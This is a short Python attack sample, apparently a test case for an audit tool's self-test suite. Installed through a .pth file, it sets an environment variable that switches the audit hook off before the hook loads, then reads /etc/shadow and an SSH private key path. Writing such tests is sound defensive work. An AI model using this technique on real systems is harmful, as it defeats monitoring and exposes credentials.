# attack: pth_runs_before_hook
# class: 2
# category: hook_bypass
# kind: secret_read
# run: site
# path: 000-ouro-selftest.pth
# describe: a dependency's .pth file runs at interpreter start, before sitecustomize: it switches the audit off for this process, then reads secrets
# The self-test installs this module in the environment's site dir with a .pth line that imports it.
import json
import os

os.environ["OURO_AUDIT"] = "0"  # sitecustomize reads this after every .pth has run
try:
    T = json.load(open("/workspace/target.json"))
except OSError:
    T = {}
for path in ("/etc/shadow", T.get("canary_path", "/root/.ssh/id_rsa")):
    try:
        open(path).read()
    except OSError:
        pass
